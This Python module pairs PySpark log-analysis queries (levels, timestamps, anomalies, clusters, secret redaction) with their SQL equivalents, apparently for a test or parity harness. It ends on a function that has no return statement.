"""Queries of the core, by name, and their SQL."""

from __future__ import annotations

from collections.abc import Callable

from pyspark.sql import DataFrame, SparkSession
from pyspark.sql import functions as F

from timberline.functions import line_columns as L
from timberline.functions import patterns as P
from timberline.operators import analysis as A
from timberline.operators import cluster, commands, documents, entries, series, trends
from timberline.operators.blocks import with_previous
from timberline.operators import fingerprint as X
from timberline.operators import similarity as S
from timberline.session import cut, shared_dir, table
from timberline.sources import files
from timberline.sources.lines import LOG_LINES_SQL, from_text, index_lines, log_lines
from timberline.streaming import pipeline

AS_OF = "2025-04-01 00:00:00"
QUERIES: dict[str, Callable[[SparkSession, str], DataFrame]] = {}
SQL: dict[str, str] = {}


def query(sql: str | None = None):
    def add(fn):
        QUERIES[fn.__name__] = fn
        if sql:
            SQL[fn.__name__] = sql
        return fn

    return add


# -- SQL pieces -------------------------------------------------------------------------------------------------------


def q(s: str) -> str:
    return "'" + s.replace("'", "''") + "'"


def has(c: str, pattern: str) -> str:
    return f"regexp_matches({c}, {q(pattern)})"


def case(c: str, rules: list[tuple[str, str]], other: str) -> str:
    return "CASE " + " ".join(f"WHEN {has(c, p)} THEN {q(k)}" for k, p in rules) + f" ELSE {other} END"


def chain(c: str, rules: list[tuple[str, str]]) -> str:
    for p, to in rules:
        c = f"regexp_replace({c}, {q(p)}, {q(to)}, 'g')"
    return c


LINES = "WITH log_lines AS (" + LOG_LINES_SQL.replace("EVENTS_TABLE", "events") + ")"
STORED = "WITH log_lines AS (SELECT DISTINCT file_id AS doc_id, CAST(line_number - 1 AS BIGINT) AS pos, message_preview AS line FROM line_index)"
LEVEL = case("line", [(k, rf"(?i)\b{P.LEVEL_WORD[k]}\b") for k in P.LEVEL_PRIORITY], "'UNKNOWN'")
LEFT = f"upper(regexp_extract(line, {q(P.LEVEL_LEFTMOST)}, 1))"
STRIP = r"regexp_replace(line, '^\s+|\s+$', '', 'g')"
ERR = has("line", "(?i)" + "|".join(P.ERROR_WORDS))
STATS_ERR = has("line", "(?i)" + "|".join(P.STATS_ERROR_WORDS))
A_ERR = has("line", P.ANOMALY_ERROR)
FLAG = {k: has("line", p) for k, p in P.ANOMALY.items()}
A_TYPE = "CASE " + " ".join(f"WHEN {FLAG[k]} THEN '{k}'" for k in P.ANOMALY) + " END"
SEV = f"CASE WHEN {FLAG['crash']} OR {FLAG['burst']} THEN 'critical' WHEN {FLAG['repeated']} OR {FLAG['resource']} THEN 'high' WHEN {FLAG['slow']} OR {FLAG['ratelimit']} THEN 'medium' WHEN {A_ERR} THEN 'low' ELSE 'normal' END"


def _ext(pattern: str, g: int = 1) -> str:
    return f"nullif(regexp_extract(line, {q(pattern)}, {g}), '')"


def _epoch(expr: str) -> str:
    return f"epoch_us(TRY_CAST({expr} AS TIMESTAMP))"


_SP = lambda e: f"regexp_replace(replace({e}, ',', '.'), '\\s+', ' ', 'g')"
_SANE = lambda e: f"CASE WHEN {e} BETWEEN 946684800000000 AND 4102444800000000 THEN {e} END"
_SEC = f"(CAST({_ext(P.STAMP_SECONDS)} AS BIGINT) * 1000000 + CAST(rpad(regexp_extract(line, {q(P.STAMP_SECONDS)}, 2), 6, '0') AS BIGINT))"
_SYS = f"epoch_us(try_strptime('2024 ' || regexp_replace({_ext(P.STAMP_SYSLOG)}, '\\s+', ' ', 'g'), '%Y %b %-d %H:%M:%S'))"
_USD = f"regexp_replace({_ext(P.STAMP_US)}, '^(\\d{{2}})-(\\d{{2}})-(\\d{{4}})\\s+', '\\3-\\1-\\2 ')"
STAMP = f"coalesce(epoch_us(CAST(TRY_CAST({_ext(P.STAMP_ISO)} AS TIMESTAMPTZ) AS TIMESTAMPTZ)), {_epoch(_SP(_ext(P.STAMP_SPACE)))}, {_SYS}, {_SANE(_SEC)}, {_SANE(f'(CAST({_ext(P.STAMP_MILLIS)} AS BIGINT) * 1000)')}, {_epoch(_SP(f'replace({_ext(P.STAMP_SLASH)}, chr(47), chr(45))'))}, {_epoch(_USD)})"
_DUR = lambda g, k: f"coalesce(TRY_CAST(nullif(regexp_extract(line, {q(P.DURATION)}, {g}), '') AS DOUBLE), 0) * {k}"
DURATION = f"nullif({_DUR(1, 3600.0)} + {_DUR(2, 60.0)} + {_DUR(3, 1.0)}, 0)"
STAMPED = f"{LINES}, st AS (SELECT doc_id, pos, {STAMP} AS us FROM log_lines), ok AS (SELECT * FROM st WHERE us IS NOT NULL), iv AS (SELECT doc_id, pos, (us - lag(us) OVER (PARTITION BY doc_id ORDER BY pos)) / 1e6 AS interval_s FROM ok), ivs AS (SELECT * FROM iv WHERE interval_s IS NOT NULL)"
NORMAL = f"lower(regexp_replace({chain('line', P.FINGERPRINT_REWRITES)}, '^\\s+|\\s+$', '', 'g'))"
CACHE = f"lower(regexp_replace({chain('line', P.CACHE_REWRITES)}, '^\\s+|\\s+$', '', 'g'))"
LOG = "(SELECT DISTINCT id, cluster_id, platform, created_at, error_fingerprint, raw_log_hash, time_to_resolve_minutes FROM analysis_log) a"
META = "(SELECT DISTINCT request_no, model_used, platform_detected, cache_status, duration_ms, cost_usd, served_at FROM analyze_response_meta) a"


# -- problems of the core ---------------------------------------------------------------------------------------------


@query()
def p4_found(spark, d):
    return entries.found_instants(spark, d)


@query()
def p5_found(spark, d):
    return entries.found_entries(spark, d)


# -- lines, levels, filters -------------------------------------------------------------------------------------------


@query(f"{LINES} SELECT doc_id, {LEVEL} AS level, count(*) AS n FROM log_lines GROUP BY ALL")
def level_histogram_index(spark, d):
    return A.level_histogram(log_lines(spark, d))


@query(f"{LINES} SELECT doc_id, CASE {LEFT} WHEN '' THEN 'UNKNOWN' WHEN 'WARNING' THEN 'WARN' ELSE {LEFT} END AS level, count(*) AS n FROM log_lines GROUP BY ALL")
def level_histogram_stats(spark, d):
    return A.level_histogram_leftmost(log_lines(spark, d))


@query(f"{STORED} SELECT doc_id, {LEVEL} AS level, count(*) AS n FROM log_lines GROUP BY ALL")
def stored_level_histogram(spark, d):
    return A.level_histogram(index_lines(spark, d))


@query(f"{LINES} SELECT doc_id, count(*) AS total_lines, count(*) FILTER (lower(line) LIKE '%error%') AS error_count, count(*) FILTER (lower(line) LIKE '%warn%') AS warning_count, count(*) FILTER (lower(line) LIKE '%fatal%') AS fatal_count FROM log_lines GROUP BY doc_id")
def error_stats(spark, d):
    return A.totals(log_lines(spark, d))


def _index(spark, d):
    return table(spark, d, "line_index").select("file_id", "line_number", "timestamp_us", "level", "message_preview")


@query("SELECT DISTINCT file_id, line_number, level FROM line_index WHERE level IN ('ERROR','CRITICAL','FATAL')")
def filter_min_level(spark, d):
    return A.filtered(_index(spark, d), least="ERROR").select("file_id", "line_number", "level").distinct()


@query("SELECT DISTINCT file_id, line_number FROM line_index WHERE contains(lower(message_preview), 'quota')")
def filter_keyword(spark, d):
    return A.filtered(_index(spark, d), keyword="Quota").select("file_id", "line_number").distinct()


@query("SELECT DISTINCT file_id, line_number, coalesce(timestamp_us, 0) AS timestamp_us FROM line_index WHERE coalesce(timestamp_us, 0) = 0 OR timestamp_us BETWEEN 1735689600000000 AND 1738367999999999")
def filter_time_range(spark, d):
    f = A.filtered(_index(spark, d), between=(1_735_689_600_000_000, 1_738_367_999_999_999))
    return f.select("file_id", "line_number", F.coalesce("timestamp_us", F.lit(0)).alias("timestamp_us")).distinct()


@query("SELECT DISTINCT file_id, line_number, message_preview FROM line_index WHERE line_number BETWEEN 10 AND 20")
def line_range(spark, d):
    return _index(spark, d).where(F.col("line_number").between(10, 20)).select("file_id", "line_number", "message_preview").distinct()


@query(f"{LINES} SELECT doc_id, CAST(pos + 1 AS INT) AS line_number, CAST(sum(octet_length(encode(line)) + 1) OVER (PARTITION BY doc_id ORDER BY pos) - octet_length(encode(line)) - 1 AS BIGINT) AS byte_offset, CAST(octet_length(encode(line)) + 1 AS INT) AS line_length, {STAMP} AS timestamp_us, {LEVEL} AS level, substr({STRIP}, 1, 200) AS message_preview FROM log_lines")
def line_index_rows(spark, d):
    return A.byte_offsets(log_lines(spark, d))


@query(f"{LINES}, st AS (SELECT doc_id, {STAMP} AS us FROM log_lines) SELECT doc_id, count(*) AS total, count(us) AS stamped, round(count(us) / count(*), 4) AS coverage, min(us) AS min_us, max(us) AS max_us FROM st GROUP BY doc_id")
def timestamp_coverage(spark, d):
    return A.coverage(log_lines(spark, d))


@query("SELECT request_no AS doc_id, count(*) AS n, CAST(sum(len(line)) AS BIGINT) AS chars FROM (SELECT request_no, unnest(CASE WHEN log_text = '' THEN [] WHEN log_text LIKE '%' || chr(10) THEN string_split(log_text[:-2], chr(10)) ELSE string_split(log_text, chr(10)) END) AS line FROM (SELECT DISTINCT request_no, replace(log_text, chr(13) || chr(10), chr(10)) AS log_text FROM analyze_request)) GROUP BY request_no")
def split_texts(spark, d):
    docs = table(spark, d, "analyze_request").dropDuplicates(["request_no"])
    return from_text(docs, "request_no", "log_text").groupBy("doc_id").agg(F.count("*").alias("n"), F.sum(F.length("line")).alias("chars"))


# -- statistics, anomalies, patterns ----------------------------------------------------------------------------------


@query(f"{LINES} SELECT doc_id, count(*) AS total_lines, count(*) FILTER ({STATS_ERR}) AS error_lines, round(count(*) FILTER ({STATS_ERR}) / count(*), 4) AS error_density, round(avg(length(line)), 2) AS avg_line_length, max(length(line)) AS max_line_length, count(*) FILTER ({has('line', P.STACK_LINE)}) AS stacktrace_lines, count(DISTINCT CASE WHEN lower(line) LIKE '%error%' THEN substr({STRIP}, 1, 80) END) AS unique_errors FROM log_lines GROUP BY doc_id")
def stats_summary(spark, d):
    return A.statistics(log_lines(spark, d))


@query(f"{LINES} SELECT label, n FROM (SELECT {case('line', P.ERROR_LABELS, 'NULL')} AS label, count(*) AS n, min((doc_id, pos)) AS f FROM log_lines GROUP BY 1) WHERE label IS NOT NULL ORDER BY n DESC, f LIMIT 10")
def top_error_patterns(spark, d):
    return A.top_error_patterns(log_lines(spark, d))


@query(f"{LINES} SELECT * FROM (SELECT doc_id, pos, {A_TYPE} AS anomaly_type, {SEV} AS severity FROM log_lines) WHERE anomaly_type IS NOT NULL")
def anomaly_rows(spark, d):
    return A.anomalies(log_lines(spark, d))


@query(f"{LINES} SELECT {SEV} AS severity, count(*) AS n FROM log_lines GROUP BY 1")
def severity_distribution(spark, d):
    return A.severity_histogram(log_lines(spark, d))


@query(f"{LINES}, t AS (SELECT doc_id, {A_TYPE} AS t, {SEV} AS s, {FLAG['burst']} AS b FROM log_lines) SELECT doc_id, bool_or(b) AS has_burst, count(t) AS total_anomalies, count(*) FILTER (s IN ('high','critical')) AS high_severity, round(count(t) / count(*), 4) AS anomaly_density FROM t GROUP BY doc_id")
def anomaly_summary(spark, d):
    return A.anomaly_summary(log_lines(spark, d))


@query(f"{LINES} SELECT doc_id, {case('line', P.LINE_CATEGORIES, q('info'))} AS category, count(*) AS n FROM log_lines GROUP BY ALL")
def error_categories(spark, d):
    return A.categories(log_lines(spark, d))


@query(f"{LINES} SELECT doc_id, pos, " + ", ".join(f"regexp_extract(line, {q(P.VERSION_CONFLICT)}, {i}) AS {n}" for i, n in enumerate(("package", "expected", "actual", "actual_version"), 1)) + f" FROM log_lines WHERE {has('line', P.VERSION_CONFLICT)}")
def version_conflicts(spark, d):
    return A.version_conflicts(log_lines(spark, d))


@query(f"{LINES} SELECT doc_id, trim(regexp_extract(line, {q(P.DEPENDENCY_ERROR)}, 1)) AS dependency, min(pos) AS first_pos, count(*) AS n FROM log_lines WHERE {has('line', P.DEPENDENCY_ERROR)} GROUP BY 1, 2")
def dependency_errors(spark, d):
    return A.dependencies(log_lines(spark, d))


@query(f"{LINES}, p AS (SELECT DISTINCT doc_id, unnest(regexp_extract_all(line, {q(P.FILE_PATH)})) AS path FROM log_lines), r AS (SELECT doc_id, path, row_number() OVER (PARTITION BY doc_id ORDER BY path) AS rank FROM p) SELECT * FROM r WHERE rank <= 30")
def file_paths(spark, d):
    return A.file_paths(log_lines(spark, d))


@query(f"{LINES}, g AS (SELECT doc_id, substr({STRIP}, 1, 80) AS signature, count(*) AS n, min(pos) AS first_pos FROM log_lines GROUP BY 1, 2 HAVING count(*) >= 2), r AS (SELECT *, row_number() OVER (PARTITION BY doc_id ORDER BY n DESC, first_pos) AS rank FROM g WHERE signature <> '') SELECT * FROM r WHERE rank <= 20")
def repeated_errors(spark, d):
    return A.repeated(log_lines(spark, d))


@query(f"{LINES}, e AS (SELECT doc_id, {STRIP} AS error_line, min(pos) AS first_pos FROM log_lines WHERE {ERR} AND length({STRIP}) >= 5 GROUP BY 1, 2), r AS (SELECT *, row_number() OVER (PARTITION BY doc_id ORDER BY first_pos) AS rank FROM e) SELECT * FROM r WHERE rank <= 30")
def error_lines(spark, d):
    return A.error_lines(log_lines(spark, d))


_SIG = ", ".join(f"max(CAST({has('line', '(?i)' + s)} AS INT)) AS s{i}_{j}" for i, ss in enumerate(P.PLATFORM_SIGNATURES.values()) for j, s in enumerate(ss))
_SCORES = [(" + ".join(f"s{i}_{j}" for j in range(len(ss))), n) for i, (n, ss) in enumerate(P.PLATFORM_SIGNATURES.items())]
_BEST = "greatest(" + ", ".join(f"({s})" for s, _ in _SCORES) + ")"


@query(f"{LINES}, g AS (SELECT doc_id, {_SIG} FROM log_lines GROUP BY doc_id), b AS (SELECT *, {_BEST} AS score FROM g) SELECT doc_id, CASE WHEN score = 0 THEN 'Unknown' " + " ".join(f"WHEN {s} = score THEN {q(n)}" for s, n in _SCORES) + " END AS platform, score FROM b")
def platform_detect(spark, d):
    return A.platform(log_lines(spark, d))


@query(f"{LINES}, n AS (SELECT doc_id, count(*) AS n, sum(length(line) + 1) - 1 AS chars FROM log_lines GROUP BY doc_id) SELECT doc_id, pos, CASE WHEN chars > 6000 AND n > 150 THEN n - 150 ELSE 0 END AS omitted FROM log_lines JOIN n USING (doc_id) WHERE NOT (chars > 6000 AND n > 150) OR pos < 50 OR pos >= n - 100")
def truncated_log(spark, d):
    return A.truncated(log_lines(spark, d))


_DEEP = case("lower(line)", P.DEEP_CATEGORIES, "NULL")


@query(f"{LINES} SELECT doc_id, pos, {_DEEP} AS category, array_to_string(regexp_extract_all(line, {q(P.VERSION_NUMBER)})[1:5], ',') AS versions, array_to_string(regexp_extract_all(line, {q(P.FILE_PATH)}), ',') AS paths, {DURATION} AS duration_s, {has('line', P.STACK_LINE)} AS is_stacktrace, substr({STRIP}, 1, 80) AS signature FROM log_lines")
def hydrate_lines(spark, d):
    return A.hydrate(log_lines(spark, d))


# -- timeline ---------------------------------------------------------------------------------------------------------


@query(f"{STAMPED}, s AS (SELECT doc_id, avg(interval_s) AS mu, coalesce(stddev_samp(interval_s), 0) AS sd FROM ivs GROUP BY doc_id), g AS (SELECT doc_id, pos, interval_s, row_number() OVER (PARTITION BY doc_id ORDER BY pos) AS rank FROM ivs JOIN s USING (doc_id) WHERE interval_s > CASE WHEN sd > 0 THEN mu + 3 * sd ELSE 5 * mu END) SELECT * FROM g WHERE rank <= 20")
def timeline_gaps(spark, d):
    return A.gaps(log_lines(spark, d))


_SHUFFLED = LINES.replace("WITH log_lines AS (", "WITH base AS (") + ", log_lines AS (SELECT doc_id, pos + CASE WHEN pos % 7 = 0 THEN 5.5 ELSE 0 END AS pos, line FROM base)"


@query(f"{_SHUFFLED}, st AS (SELECT doc_id, pos, {STAMP} AS us FROM log_lines), iv AS (SELECT doc_id, us - lag(us) OVER (PARTITION BY doc_id ORDER BY pos) AS i FROM st WHERE us IS NOT NULL) SELECT doc_id, count(*) FILTER (i < 0) AS regressions FROM iv WHERE i IS NOT NULL GROUP BY doc_id")
def time_regressions(spark, d):
    shuffled = log_lines(spark, d).withColumn("pos", F.col("pos") + F.when(F.col("pos") % 7 == 0, 5.5).otherwise(0.0))
    return A.regressions(shuffled)


@query(f"{LINES}, t AS (SELECT doc_id, {DURATION} AS s FROM log_lines) SELECT doc_id, count(*) AS n, round(sum(s), 3) AS total_s, round(avg(s), 3) AS avg_s, max(s) AS max_s, min(s) AS min_s FROM t WHERE s IS NOT NULL GROUP BY doc_id")
def duration_stats(spark, d):
    return A.durations(log_lines(spark, d))


@query(f"{STAMPED} SELECT strftime(make_timestamp(us), '%Y-%m-%d %H:%M') AS minute, count(*) AS n FROM ok GROUP BY 1 ORDER BY n DESC, minute LIMIT 20")
def event_density(spark, d):
    return A.minute_density(log_lines(spark, d))


@query(f"{STAMPED} SELECT doc_id, arg_min(us, pos) AS first_us, arg_max(us, pos) AS last_us, (arg_max(us, pos) - arg_min(us, pos)) / 1e6 AS span_s FROM ok GROUP BY doc_id")
def time_range(spark, d):
    return A.time_span(log_lines(spark, d))


# -- text transforms --------------------------------------------------------------------------------------------------


@query(f"{LINES}, n AS (SELECT doc_id, pos, {NORMAL} AS normalized, line FROM log_lines) SELECT doc_id, pos, normalized, sha256(normalized) AS fingerprint, sha256({CACHE}) AS cache_key, md5(line) AS content_key FROM n")
def line_fingerprints(spark, d):
    lines = log_lines(spark, d).withColumn("key", F.struct("doc_id", "pos"))
    return X.fingerprints(lines, "key", "line").select("key.doc_id", "key.pos", "normalized", "fingerprint", "cache_key", "content_key")


@query(f"{LINES}, n AS (SELECT doc_id, pos, regexp_extract_all({NORMAL}, {q(P.SKELETON_TOKEN)}) AS t FROM log_lines) SELECT doc_id, pos, array_to_string(list_filter(t, lambda x, i: list_position(t, x) = i), ' ') AS skeleton FROM n")
def skeletons(spark, d):
    return log_lines(spark, d).select("doc_id", "pos", L.skeleton(L.fingerprint_text(F.col("line"))).alias("skeleton"))


_TRI = "CASE WHEN length(s) >= 3 THEN list_distinct(list_transform(range(1, length(s) - 1), lambda i: substr(s, i, 3))) WHEN s = '' THEN [] ELSE [s] END"


@query(
    f"{LINES}, n AS (SELECT doc_id, pos, {NORMAL} AS s FROM log_lines), t AS (SELECT doc_id, pos, {_TRI} AS g FROM n), p AS (SELECT doc_id, pos, g, lag(g) OVER (PARTITION BY doc_id ORDER BY pos) AS h FROM t), j AS (SELECT doc_id, pos, len(list_intersect(g, h)) AS c, len(g) + len(h) AS u FROM p WHERE h IS NOT NULL) SELECT doc_id, pos, round(CASE WHEN u - c = 0 THEN 1.0 ELSE c / (u - c) END, 9) AS similarity FROM j"
)
def shingle_jaccard(spark, d):
    """Each line against the line before."""
    t = log_lines(spark, d).select("doc_id", "pos", L.fingerprint_text(F.col("line")).alias("s")).select("doc_id", "pos", L.trigrams(F.col("s")).alias("g"))
    p = with_previous(t, "doc_id", "pos", "g", "h").where("h is not null")
    return p.select("doc_id", "pos", F.round(L.jaccard(F.col("g"), F.col("h")), 9).alias("similarity"))


_SECRETS = [(p, r) for _, p, r in P.SECRET_RULES]


@query(f"{LINES} SELECT doc_id, pos, CASE WHEN {has('line', P.SECRET_SIGN)} THEN {chain('line', _SECRETS)} ELSE line END AS line FROM log_lines")
def secrets_redacted(spark, d):
    return X.redacted_lines(log_lines(spark, d))


def _audit_sql() -> str:
    c, parts = "line", []
    for name, p, to in P.SECRET_RULES:
        parts.append(f"SELECT {q(name)} AS rule, sum(len(regexp_extract_all({c}, {q(p)}))) AS n FROM hit")
        c = f"regexp_replace({c}, {q(p)}, {q(to)}, 'g')"
    return f"{LINES}, hit AS (SELECT line FROM log_lines WHERE {has('line', P.SECRET_SIGN)}) SELECT rule, CAST(n AS BIGINT) AS n FROM (" + " UNION ALL ".join(parts) + ") WHERE n > 0"


@query(_audit_sql())
def secrets_audit(spark, d):
    return X.audit(log_lines(spark, d))


@query()
def records_redacted(spark, d):
    return X.redacted_records(table(spark, d, "log_record").dropDuplicates(["id"])).select("id", "content", "error_lines", "metadata")


def _sanitize_sql() -> str:
    gate = " OR ".join(f"contains(lower(log_text), {q(w)})" for w in P.TRIPWIRES)
    return f"SELECT request_no, CASE WHEN {gate} THEN {chain('log_text', [(p, '[REDACTED]') for _, p in P.INJECTIONS])} ELSE log_text END AS cleaned FROM (SELECT DISTINCT request_no, log_text FROM analyze_request)"


@query(_sanitize_sql())
def sanitized_texts(spark, d):
    return X.sanitized(table(spark, d, "analyze_request").dropDuplicates(["request_no"]), "request_no", "log_text").select("request_no", "cleaned")


def _strip_sql() -> str:
    c = "replace(replace(text, chr(13), ''), chr(160), ' ')"
    for _ in range(5):
        c = f"regexp_replace({c}, '<[^>]*>', '', 'g')"
        for a, b in (("&amp;", "&"), ("&lt;", "<"), ("&gt;", ">"), ("&quot;", '"'), ("&#039;", "'")):
            c = f"replace({c}, {q(a)}, {q(b)})"
    return f"SELECT doc_id, md5(regexp_replace({c}, '^\\s+|\\s+$', '', 'g')) AS digest FROM (SELECT DISTINCT doc_id, text FROM documents) WHERE text IS NOT NULL"


@query(_strip_sql())
def markup_stripped(spark, d):
    docs = table(spark, d, "documents").dropDuplicates(["doc_id"]).where("text is not null")
    c = F.replace(F.replace("text", F.lit("\r"), F.lit("")), F.lit(" "), F.lit(" "))
    return docs.select("doc_id", F.md5(X.strip_markup(c)).alias("digest"))


@query("SELECT id, json_extract_string(analysis_result_json, '$.severity') AS severity FROM (SELECT DISTINCT id, analysis_result_json FROM analysis_log)")
def result_severity(spark, d):
    r = X.parsed_json(F.col("analysis_result_json"), "severity string, error_summary string")
    return trends.once(table(spark, d, "analysis_log")).select("id", r["severity"].alias("severity"))


# -- clusters over time -----------------------------------------------------------------------------------------------


def _log(spark, d):
    return trends.once(table(spark, d, "analysis_log"))


@query(f"SELECT cluster_id, count(*) AS n FROM {LOG} WHERE cluster_id IS NOT NULL AND created_at >= TIMESTAMPTZ '{AS_OF}+00' - INTERVAL 30 DAYS GROUP BY 1 ORDER BY n DESC, cluster_id LIMIT 10")
def trending_clusters(spark, d):
    return trends.trending(_log(spark, d), AS_OF, 30)


@query(f"SELECT cluster_id, count(*) AS total, count(*) FILTER (created_at >= TIMESTAMPTZ '{AS_OF}+00' - INTERVAL 7 DAYS) AS last_7_days, count(*) FILTER (created_at >= TIMESTAMPTZ '{AS_OF}+00' - INTERVAL 30 DAYS) AS last_30_days, round(avg(time_to_resolve_minutes), 2) AS avg_resolve_minutes, epoch_us(min(created_at)) AS first_us, epoch_us(max(created_at)) AS last_us FROM {LOG} WHERE cluster_id IS NOT NULL GROUP BY 1")
def cluster_insight(spark, d):
    i = trends.insight(_log(spark, d), AS_OF)
    return i.select("cluster_id", "total", "last_7_days", "last_30_days", "avg_resolve_minutes", F.unix_micros("first_seen").alias("first_us"), F.unix_micros("last_seen").alias("last_us"))


@query(f"SELECT CAST(c.day AS VARCHAR) AS day, coalesce(n, 0) AS n FROM (SELECT CAST(unnest(generate_series(DATE '2025-04-01' - INTERVAL 29 DAYS, DATE '2025-04-01', INTERVAL 1 DAY)) AS DATE) AS day) c LEFT JOIN (SELECT CAST(created_at AT TIME ZONE 'UTC' AS DATE) AS day, count(*) AS n FROM {LOG} GROUP BY 1) g USING (day)")
def daily_trend(spark, d):
    return trends.daily(_log(spark, d), AS_OF).select(F.col("day").cast("string").alias("day"), "n")


@query("SELECT k AS platform, CAST(sum(v) AS BIGINT) AS n FROM (SELECT unnest(map_keys(platform_distribution)) AS k, unnest(map_values(platform_distribution)) AS v FROM error_cluster) GROUP BY 1")
def platform_totals(spark, d):
    return trends.map_totals(table(spark, d, "error_cluster"))


@query(f"WITH g AS (SELECT count(*) FILTER (created_at >= t - INTERVAL 7 DAYS AND created_at < t) AS this_week, count(*) FILTER (created_at >= t - INTERVAL 14 DAYS AND created_at < t - INTERVAL 7 DAYS) AS last_week, count(DISTINCT CASE WHEN created_at >= t - INTERVAL 7 DAYS AND created_at < t THEN cluster_id END) AS active_clusters FROM (SELECT *, TIMESTAMPTZ '{AS_OF}+00' AS t FROM {LOG})) SELECT *, round((this_week - last_week) * 100 / nullif(last_week, 0), 1) AS delta_percent FROM g")
def week_over_week(spark, d):
    return trends.week_over_week(_log(spark, d), AS_OF)


@query(f"SELECT cluster_id, count(*) AS n FROM {LOG} WHERE cluster_id IS NOT NULL GROUP BY 1 ORDER BY n DESC, cluster_id LIMIT 20 OFFSET 20")
def paged_clusters(spark, d):
    n = trends.counts_by(_log(spark, d).where("cluster_id is not null"), "cluster_id")
    return trends.page(n, [F.desc("n"), F.col("cluster_id")], 2, 20)


@query(f"SELECT cluster_id, epoch_us(min(created_at)) AS first_us, epoch_us(max(created_at)) AS last_us, count(*) AS occurrence_count, arg_min(error_fingerprint, (created_at, id)) AS centroid_fingerprint, array_to_string(list(id ORDER BY id DESC)[1:3], ',') AS samples FROM {LOG} WHERE cluster_id IS NOT NULL GROUP BY 1")
def cluster_rollup(spark, d):
    r = trends.rollup(_log(spark, d))
    return r.select("cluster_id", F.unix_micros("first_seen").alias("first_us"), F.unix_micros("last_seen").alias("last_us"), "occurrence_count", "centroid_fingerprint", F.concat_ws(",", F.col("representative_samples").cast("array<string>")).alias("samples"))


@query(f"SELECT cluster_id, last_seen >= TIMESTAMPTZ '{AS_OF}+00' - INTERVAL 30 DAYS AS is_active FROM error_cluster")
def active_clusters(spark, d):
    return trends.active(table(spark, d, "error_cluster"), AS_OF).select("cluster_id", "is_active")


@query(f"SELECT id FROM {LOG} WHERE created_at >= TIMESTAMPTZ '2025-03-01 00:00:00+00' AND raw_log_hash NOT IN (SELECT raw_log_hash FROM {LOG.replace(') a', ') b')} WHERE created_at < TIMESTAMPTZ '2025-03-01 00:00:00+00' AND raw_log_hash IS NOT NULL) QUALIFY row_number() OVER (PARTITION BY raw_log_hash ORDER BY id) = 1")
def dedup_sink(spark, d):
    """Rows of March whose raw text was not stored before; of equal ones the first id."""
    log = _log(spark, d)
    day = F.lit("2025-03-01").cast("timestamp")
    first = log.where(F.col("created_at") >= day).groupBy("raw_log_hash").agg(F.min("id").alias("id"))
    return trends.only_new(first, log.where(F.col("created_at") < day), "raw_log_hash").select("id")


@query(f"SELECT raw_log_hash, arg_max(id, (created_at, id)) AS id FROM {LOG} WHERE raw_log_hash IS NOT NULL GROUP BY 1")
def upsert_sink(spark, d):
    """The stored table after its own rows of March came in as updates by raw text."""
    log = _log(spark, d).where("raw_log_hash is not null").select("raw_log_hash", "id", F.struct("created_at", "id").alias("at"))
    old = log.where("at.created_at < timestamp'2025-03-01'")
    have = old.groupBy("raw_log_hash").agg(F.max("at").alias("at")).select("raw_log_hash", F.col("at.id").alias("id"), "at")
    return trends.upsert(have, log.where("at.created_at >= timestamp'2025-03-01'"), "raw_log_hash", "at").select("raw_log_hash", "id")


@query("SELECT cluster_id, '| ' || CAST(cluster_id AS VARCHAR) || ' | ' || CAST(coalesce(occurrence_count, 0) AS VARCHAR) || ' | ' || CASE WHEN avg_severity_score >= 3.5 THEN 'critical' WHEN avg_severity_score >= 2.5 THEN 'high' WHEN avg_severity_score >= 1.5 THEN 'medium' ELSE 'low' END || ' | ' || repeat('█', least(coalesce(occurrence_count, 0), 20)) || ' |' AS line FROM error_cluster")
def cluster_report(spark, d):
    return trends.report_markdown(table(spark, d, "error_cluster"))


@query("SELECT cluster_id, ord, id, l.platform FROM (SELECT cluster_id, unnest(representative_samples) AS id, generate_subscripts(representative_samples, 1) - 1 AS ord FROM error_cluster WHERE representative_samples IS NOT NULL) s JOIN (SELECT DISTINCT id, platform FROM analysis_log) l USING (id)")
def cluster_samples(spark, d):
    """Representative ids to their rows, order kept."""
    s = table(spark, d, "error_cluster").select("cluster_id", F.posexplode("representative_samples").alias("ord", "id"))
    return s.join(_log(spark, d).select("id", "platform"), "id").select("cluster_id", "ord", "id", "platform")


@query()
def cluster_assign(spark, d):
    """Leaders in order of id over skeletons."""
    return cluster.assign(table(spark, d, "analysis_log"), "id", "error_fingerprint")


_GRAMS = "list_distinct(list_transform(range(1, greatest(length(s) - 1, 2)), lambda i: substr(s, i, 3)))"


@query(
    f"WITH m AS (SELECT cluster_id, id, {_GRAMS} AS g FROM (SELECT cluster_id, id, {NORMAL.replace('(line,', '(error_fingerprint,')} AS s FROM {LOG} WHERE cluster_id IS NOT NULL AND error_fingerprint IS NOT NULL)),"
    " f AS (SELECT cluster_id, arg_min(g, id) AS f, count(*) AS n FROM m GROUP BY 1 HAVING count(*) >= 4),"
    " d AS (SELECT cluster_id, id, g, 1 - len(list_intersect(g, f)) / (len(g) + len(f) - len(list_intersect(g, f))) AS d0 FROM m JOIN f USING (cluster_id)),"
    " wide AS (SELECT DISTINCT a.cluster_id FROM d a JOIN d b ON a.cluster_id = b.cluster_id AND a.id < b.id AND 1 - len(list_intersect(a.g, b.g)) / (len(a.g) + len(b.g) - len(list_intersect(a.g, b.g))) > 0.5),"
    " s AS (SELECT cluster_id, arg_max(g, (d0, -id)) AS s FROM d WHERE cluster_id IN (SELECT cluster_id FROM wide) GROUP BY 1)"
    " SELECT cluster_id, id, CAST(1 - len(list_intersect(g, s)) / (len(g) + len(s) - len(list_intersect(g, s))) < d0 AS INT) AS side FROM d JOIN s USING (cluster_id)"
)
def cluster_split(spark, d):
    n = _log(spark, d).where("cluster_id is not null and error_fingerprint is not null").select("cluster_id", "id", L.fingerprint_text(F.col("error_fingerprint")).alias("s"))
    return cluster.split(n.select("cluster_id", "id", L.trigrams(F.col("s")).alias("g")))


@query("SELECT cluster_id, occurrence_count, is_active FROM error_cluster")
def cluster_export(spark, d):
    """One JSON object per cluster, read back."""
    j = trends.export_json(table(spark, d, "error_cluster"))
    return j.select(F.from_json("json", "cluster_id bigint, occurrence_count int, is_active boolean").alias("x")).select("x.*")


@query(f"{LINES}, t AS (SELECT doc_id, count(*) FILTER (lower(line) LIKE '%error%') AS e, count(*) FILTER (lower(line) LIKE '%fatal%') AS f FROM log_lines GROUP BY doc_id) SELECT doc_id, CASE WHEN f > 0 THEN 'critical' WHEN e >= 5 THEN 'high' WHEN e >= 1 THEN 'medium' ELSE 'low' END AS severity FROM t")
def severity_hints(spark, d):
    """P29."""
    t = A.totals(log_lines(spark, d))
